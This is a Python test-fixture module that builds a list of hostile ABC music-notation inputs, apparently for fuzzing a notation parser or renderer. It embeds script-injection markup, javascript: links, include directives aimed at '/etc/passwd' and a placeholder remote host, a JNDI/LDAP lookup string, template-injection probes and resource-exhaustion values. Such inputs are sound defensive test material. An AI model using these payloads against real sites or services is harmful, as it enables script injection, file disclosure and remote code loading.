"""ABC that means harm: markup wherever text may be, directives, numbers without end."""

from __future__ import annotations

MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>'
LINK = "javascript:alert(4)"
HEAD = "X:1\nM:4/4\nL:1/8\nK:G\n"
BODY = "GABc dedB|\n"

_FIELDS = "ABCDFGHINOPRSTUVWZmrsw"
_DIRECTIVES = (
    f"%%html {MARKUP}",
    f"%%beginhtml\n{MARKUP}\n%%endhtml",
    f"%%begintext\n{MARKUP}\n%%endtext",
    f"%%text {MARKUP}",
    f"%%center {MARKUP}",
    "%%beginps\n/Courier findfont\n(alert(1)) run\n%%endps",
    "%%beginsvg\n<svg onload=alert(1)><script>alert(2)</script></svg>\n%%endsvg",
    "%%beginjs\nalert(1)\n%%endjs",
    "%%abc-include http://192.0.2.1/x.abc",
    "%%abc-include /etc/passwd",
    f"%%titleformat {MARKUP}",
    f"%%header {MARKUP}",
    f"%%footer {MARKUP}",
    f'%%titlefont "{MARKUP}" 20',
    "%%titlefont url(http://192.0.2.1/f.woff) 20",
    "%%vocalfont x;background:url(http://192.0.2.1/x.png) 20 box",
    f'%%MIDI program "{MARKUP}"',
    "%%MIDI gchord ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff",
    "%%MIDI drum dddddddddddddddddddddddd 35 35 35 127 127 127",
    f"%%percmap {MARKUP} 35 x",
    "%%staffwidth 99999999",
    "%%scale 1000000",
    "%%begintext\nnever ended\n" + MARKUP,
    "%%map a * * color=red;fill:url(http://192.0.2.1/x)",
    "%%voicecolor url(http://192.0.2.1/x.svg)",
    f"I:abc-include http://192.0.2.1/x\nI:linebreak {MARKUP}",
)
_MUSIC = (
    f'"{MARKUP}"GABc|\n',
    f'"^{MARKUP}"GABc "_{LINK}"dedB|\n',
    f'"@-1000000,1000000 {MARKUP}"GABc|\n',
    f"!{MARKUP}!G +{MARKUP}+A|\n",
    f"[K:{MARKUP}]GABc [V:{MARKUP}]dedB [P:{MARKUP}]G|\n",
    f"[I:setfont {MARKUP}] G [r:{MARKUP}] A|\n",
    f"GABc|\nw:{MARKUP} a-b_c*\n",
    f"{MARKUP}\n",
    f"GABc %{MARKUP}\ndedB|\n",
    "G100000000000 A1/100000000000|\n",
    "G////////////////////////////////A|\n",
    "Z1000000|Z999|\n",
    "(99999999:99999999:99999999GABc|\n",
    "(3:2:999GABc|\n",
    "|" + ":" * 400 + "GABc:" + ":" * 400 + "|\n",
    "|:GABc|[1-99999999 dedB:|[1,2,3,4,5,6,7,8,9,10,11,99999 c4|\n",
    "[" * 900 + "G" + "]" * 900 + "|\n",
    "{" * 2000 + "G" + "}" * 2000 + "|\n",
    "(" * 2000 + "GABc" + ")" * 2000 + "|\n",
    '"' * 999 + "GABc|\n",
    "G,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,, c''''''''''''''''''''''''''''''''''''|\n",
    "^" * 500 + "G " + "_" * 500 + "A|\n",
    "-" * 900 + "\n",
    "G-" * 400 + "\n",
    "GA\0Bc \x01\x02\x7f dedB|\n",
    "G\u202eABc\u2028dedB\u2029 \ufeff\U0001f3bb\ud800|\n",
    "é" * 500 + "|\n",
    "GABc\r\rdedB|\r\n\r\n" + MARKUP,
    "[CEGceg'c'e'g']8" * 60 + "|\n",
    "&" * 500 + "GABc|\n",
    "G" * 9000 + "|\n",
    "G|" * 1200 + "\n",
    "G|" * 4000 + "\n",
    "|" * 9000 + "\n",
    "${jndi:ldap://192.0.2.1/x} {{7*7}} <%= 7*7 %> GABc|\n",
    "G\n\n\nX:2\nT:" + MARKUP + "\nK:C\nC|\n",
)
_HEADS = (
    "X:1\nM:99999999/1\nL:1/8\nK:C\n",
    "X:1\nM:4/0\nL:1/0\nK:C\n",
    "X:1\nL:99999999/1\nK:C\n",
    "X:1\nM:4/4\nL:1/8\nQ:1/4=99999999\nK:C\n",
    "X:1\nM:4/4\nL:1/8\nQ:1/4=0\nK:C\n",
    'X:1\nQ:"' + MARKUP.replace('"', "") + '" 1/4=100\nK:C\n',
    f"X:1\nK:{MARKUP}\n",
    "X:1\nK:C clef=" + LINK + " transpose=999999 octave=999999 stafflines=999\n",
    'X:1\nV:1 name="' + MARKUP.replace('"', "'") + '" snm="<b>x" clef=perc\nK:C\n',
    "X:99999999999999999999\nK:C\n",
    "",
    "\n\n\n",
    "T:" + "very long " * 900 + "\nK:C\n",
    "X:1\nU:T=!" + MARKUP + "!\nm:~G2=" + MARKUP + "\nK:C\n",
)

HOSTILE = (
    [f"X:1\n{field}:{MARKUP}\nK:G\n{BODY}" for field in _FIELDS]
    + [f"X:1\nT:{LINK}\nF:{LINK}\nS:<a href='{LINK}'>x</a>\nK:G\n{BODY}"]
    + [f"{HEAD}{directive}\n{BODY}" for directive in _DIRECTIVES]
    + [f"{directive}\n{HEAD}{BODY}" for directive in _DIRECTIVES]
    + [HEAD + music for music in _MUSIC]
    + [head + BODY for head in _HEADS]
)
